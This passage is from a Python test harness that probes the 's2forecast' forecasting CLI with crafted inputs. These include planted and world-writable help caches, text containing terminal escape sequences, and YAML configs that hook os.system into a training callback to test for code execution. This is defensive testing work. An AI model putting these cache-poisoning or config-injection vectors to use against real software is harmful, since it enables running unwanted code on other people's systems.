        ("xdg_open_dir", 0o777, f"{key} sha256={hashlib.sha256(text.encode()).hexdigest()}"),  # others can write
    ):
        directory = outside / name / "s2forecast" / "help"
        directory.mkdir(parents=True)
        directory.chmod(mode)
        (directory / "fit.txt").write_text(f"{line}\n{text}")
        p[name] = directory.parents[1]
    own = outside / "xdg_own_escapes" / "s2forecast" / "help"  # a valid file in a private directory, with escapes
    own.mkdir(parents=True, mode=0o700)
    usage = f"usage {ESCAPES}\n"
    (own / "fit.txt").write_text(f"{key} sha256={hashlib.sha256(usage.encode()).hexdigest()}\n{usage}")
    p["xdg_own_escapes"] = own.parents[1]

    # the store in -180..180, first column -157.5: a 7-column (odd) shift of 0..337.5
    p["store_lon_west"] = p["root"] / "store_lon_west.zarr"
    shutil.copytree(p["store"], p["store_lon_west"])
    group = zarr.open_group(str(p["store_lon_west"]), mode="r+")
    lon = np.roll(group["longitude"][:], 7)
    group["longitude"][:] = np.where(lon > 180.0, lon - 360.0, lon)
    for name in ("geopotential_height", "vorticity", "divergence"):
        group[name][:] = np.roll(group[name][:], 7, axis=-1)

    hooks = "trainer:\n  callbacks:\n    - class_path: pytorch_lightning.callbacks.LambdaCallback\n      init_args:\n"
    for name, function in (("print", "builtins.print"), ("system", "os.system")):
        p[f"config_hook_{name}"] = p["root"] / f"hook_{name}.yaml"
        p[f"config_hook_{name}"].write_text(f"{hooks}        on_fit_start: {function}\n")


def help_is_plain(paths: dict, out: Path, stdout: str) -> str | None:
    """The help printed is LightningCLI's, without the crafted text or terminal escapes."""
    if FOREIGN in stdout:
        return "printed the crafted cache's text"
    if "\x1b" in stdout or "\x07" in stdout:
        return "printed terminal escape sequences"
    return None


def same_forecast_as_from_zero(paths: dict, out: Path, stdout: str) -> str | None:
    """The forecast of the -180..180 store equals the workspace's forecast of the same data from 0 E."""
    theirs = xr.open_dataset(out / "f.nc").load()
    theirs = theirs.assign_coords(longitude=np.mod(theirs["longitude"], 360.0)).sortby("longitude")
    ours = xr.open_dataset(paths["forecast"]).load()
    for name in ("geopotential_height", "vorticity", "divergence"):
        if not np.array_equal(ours[name].values, theirs[name].values):
            gap = float(np.abs(ours[name].values - theirs[name].values).max())
            return f"{name} differs from the forecast of the same data stored from 0 E (max {gap:.3g})"
    return None


def training_cases() -> list[Case]:
    fit = ["fit", "--config", "{config}"]
    # a val split beside the train split (train [0, 1], val [1, 2]: disjoint), for validate
    with_val = ["--data.init_args.train_trajectories", "[0, 1]", "--data.init_args.val_trajectories", "[1, 2]",
                "--trainer.limit_val_batches", "null"]  # fmt: skip
    validate = ["validate", "--config", "{config}", *with_val, "--ckpt_path", "{ckpt}"]
    crps = ["--model.loss", "crps", "--model.members", "2", "--model.network.noise_channels", "2"]
    roll = ["rollout", "--ckpt", "{ckpt}", "--steps", "2", "--init-times", "2000-01-01T00,2000-01-01T01",
            "--out", "{out}/f.nc", "--no-progress"]  # fmt: skip
    return [
        Case("fit --help <- symlink at the old temporary name", ["fit", "--help"], "ok",
             env={"XDG_CACHE_HOME": "{xdg_planted}"}, check=help_is_plain),
        Case("fit --help <- crafted cache with the old key line", ["fit", "--help"], "ok",
             env={"XDG_CACHE_HOME": "{xdg_old_key}"}, check=help_is_plain),
        Case("fit --help <- crafted cache in a directory others can write", ["fit", "--help"], "ok",
             env={"XDG_CACHE_HOME": "{xdg_open_dir}"}, check=help_is_plain),
        Case("fit --help <- own cache with escapes", ["fit", "--help"], "ok",
             env={"XDG_CACHE_HOME": "{xdg_own_escapes}"}, check=help_is_plain),
        Case("validate --ckpt_path <- the config it was trained with", validate, "ok"),
        Case("validate --ckpt_path <- CRPS config, MSE checkpoint", [*validate, *crps]),
        Case("validate --ckpt_path <- another config, --model_from_ckpt true", [*validate, *crps,
             "--model_from_ckpt", "true"], "ok"),  # fmt: skip
        Case("fit --ckpt_path <- wider network (shapes differ)", [*fit, "--ckpt_path", "{ckpt}",
             "--model.network.embed_dim", "16", "--trainer.max_steps", "3"]),  # fmt: skip
        Case("fit --ckpt_path <- planar config, spherical checkpoint", [*fit, "--ckpt_path", "{ckpt}",
             "--model.architecture", "planar", "--model.network", '{{"embed_dim": 8, "num_layers": 1}}',
             "--trainer.max_steps", "3"]),  # fmt: skip
        Case("fit <- train and val trajectories overlap", [*fit, "--data.init_args.val_trajectories", "[1, 2]",
             "--trainer.limit_val_batches", "null"]),  # fmt: skip
        Case("fit <- overlap with --data.allow_overlap true", [*fit, "--data.init_args.val_trajectories", "[1, 2]",
             "--data.allow_overlap", "true"], "ok"),  # fmt: skip
        Case("rollout <- store_lon_west (-180..180, odd column shift)", [*roll, "--store", "{store_lon_west}"], "ok",
             check=same_forecast_as_from_zero),
        Case("fit <- LambdaCallback on_fit_start: builtins.print", [*fit, "--config", "{config_hook_print}"]),
        Case("fit <- LambdaCallback on_fit_start: os.system", [*fit, "--config", "{config_hook_system}"]),
        Case("fit --model.network.embed_dim sixteen", [*fit, "--model.network.embed_dim", "sixteen"]),
        Case("fit --model.network.embed_dim -16", [*fit, "--model.network.embed_dim", "-16"]),
        Case("fit --model.network.num_heads 0", [*fit, "--model.network.num_heads", "0"]),
        Case("fit --data.init_args.rollout_steps 0", [*fit, "--data.init_args.rollout_steps", "0"]),
    ]  # fmt: skip


# --- running a case --------------------------------------------------------------------------------
# --- running a case --------------------------------------------------------------------------------


def digest(root: Path) -> dict[str, str]:
    """sha1 of every file under ``root`` (relative path -> hex)."""
    found = {}
    for path in sorted(root.rglob("*")):
        if path.is_file() and not path.is_symlink():
            found[str(path.relative_to(root))] = hashlib.sha1(path.read_bytes()).hexdigest()
    return found


def run_case(case: Case, paths: dict[str, Path], root: Path, index: int) -> Result:
    from s2forecast.cli import main

    out = root / "out" / f"case{index:03d}"
    out.mkdir(parents=True)
    names = {key: str(value) for key, value in paths.items()} | {"out": str(out)}
    argv = [part.format(**names) for part in case.argv]
    watched = root / "ws"
    before = digest(watched)
    stderr, stdout = io.StringIO(), io.StringIO()
    code, escaped = 0, None
    cwd = os.getcwd()
    saved_env = {key: os.environ.get(key) for key in case.env or {}}
    try:
        os.chdir(paths[case.cwd] if case.cwd else root)
        os.environ.update({key: value.format(**names) for key, value in (case.env or {}).items()})
        with contextlib.redirect_stderr(stderr), contextlib.redirect_stdout(stdout):
            main(argv)
    except SystemExit as exit:
        code = exit.code if isinstance(exit.code, int) else 1
    except BaseException as error:  # noqa: BLE001 - an escaped exception is what the probe counts
        escaped = error
    finally:
        os.chdir(cwd)
        for key, value in saved_env.items():
            if value is None:
                os.environ.pop(key, None)
            else:
                os.environ[key] = value
    lines, warned = _without_warnings(stderr.getvalue())
    # a refusal is exit 2 and one line naming the command (s2forecast's format: cli.main)
    refusal = code == 2 and len(lines) == 1 and lines[0].startswith("s2forecast")
    if escaped is not None or any("Traceback" in line for line in lines) or (code and not refusal):
        outcome = "traceback"
        message = repr(escaped) if escaped is not None else " | ".join(lines[-3:])
    elif code:
        outcome, message = "error", lines[0]
    else:
        outcome, message = "ok", ""
    after = digest(watched)
    lost = sorted(name for name, sha in before.items() if after.get(name) != sha)
    new = sorted(set(after) - set(before))
    if case.changes is not None and outcome == "ok":  # e.g. stats rewrote its own group of the store
        prefix = str(paths[case.changes].relative_to(watched)) + os.sep
        lost = [name for name in lost if not name.startswith(prefix)]
        new = [name for name in new if not name.startswith(prefix)]
    produced = sorted(str(p.relative_to(out)) for p in out.rglob("*"))
    if argv[0] in ("fit", "validate", "test"):
        # a Lightning run that fails on its data keeps its run directory (config.yaml records
        # what failed), as every Lightning run does: not a leftover of s2forecast's writers
        new = [name for name in new if not name.startswith("runs" + os.sep)]
    leftovers = (new + produced) if outcome != "ok" else new
    code_ran = (watched / SENTINEL).exists()
    silent = case.expect == "error" and outcome == "ok"
    if case.check is not None and outcome == "ok" and (wrong := case.check(paths, out, stdout.getvalue())):
        silent, message = True, wrong
    return Result(case.name, outcome, case.expect, message[:300], lost, leftovers, silent, code_ran, warned)


def _without_warnings(stderr: str) -> tuple[list[str], int]:
    """stderr's lines without Python warnings (``file:line: XWarning: ...`` and its source line),
    and how many warnings there were: counted apart (issue 18), not as a second error line."""
    lines, warned, skip_source = [], 0, False
    for line in stderr.splitlines():
        if skip_source and line[:1].isspace():
            skip_source = False
            continue
        skip_source = False
        # warnings.warn's "file.py:12: XWarning: ..." and Lightning's "file.py:12: ..." (rank_zero_warn)
        if re.match(r"\S+\.py:\d+: ", line) and not line.startswith("s2forecast "):
            warned += 1
            skip_source = True
        elif re.match(r"s2forecast( [\w-]+)?: warning: ", line):  # s2forecast's own, one line (cli.one_line_warnings)
            warned += 1
        elif line.strip():
            lines.append(line)
    return lines, warned


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--workdir", type=Path, help="where to build the workspace (default: a temporary directory)")
    parser.add_argument("--only", action="append", help="run only the cases whose name contains this text (repeatable)")
    parser.add_argument("--list", action="store_true", help="list the cases and exit")
    args = parser.parse_args(argv)
    cases = [case for case in all_cases() if args.only is None or any(text in case.name for text in args.only)]
    if args.list:
        print("\n".join(case.name for case in cases))
        return 0
    if not cases:  # a typo probed nothing, and said so as a clean probe
        parser.error(f"--only {' '.join(args.only)} names no case: --list lists them")
    if args.workdir is not None and not args.workdir.is_dir():
        parser.error(f"--workdir {args.workdir} is not a directory; give an existing one")
    with tempfile.TemporaryDirectory(dir=args.workdir) as tmp:
        root = Path(tmp)
        (root / "ws").mkdir()
        paths = build_workspace(root / "ws")
        results = []
        for index, case in enumerate(cases):
            result = run_case(case, paths, root, index)
            results.append(result)
            print(json.dumps(result.__dict__), flush=True)
            if result.code_ran:  # keep probing the rest with a clean workspace
                (root / "ws" / SENTINEL).unlink()
    summary = {
        "cases": len(results),
        "refused_in_one_line": sum(r.outcome == "error" for r in results),
        "ok": sum(r.outcome == "ok" for r in results),
        "tracebacks": sum(r.outcome == "traceback" for r in results),
        "lost_or_replaced": sum(bool(r.lost) for r in results),
        "leftovers": sum(bool(r.leftovers) for r in results),
        "silent_wrong_results": sum(r.silent for r in results),
        "code_executions": sum(r.code_ran for r in results),
        "cases_printing_warnings": sum(bool(r.warnings) for r in results),
        "expected_ok_but_refused": [r.name for r in results if r.expect == "ok" and r.outcome != "ok"],
    }
    print(json.dumps({"summary": summary}))
    bad = ("tracebacks", "lost_or_replaced", "leftovers", "silent_wrong_results", "code_executions")
    return 1 if any(summary[key] for key in bad) or summary["expected_ok_but_refused"] else 0


if __name__ == "__main__":
    sys.exit(main())
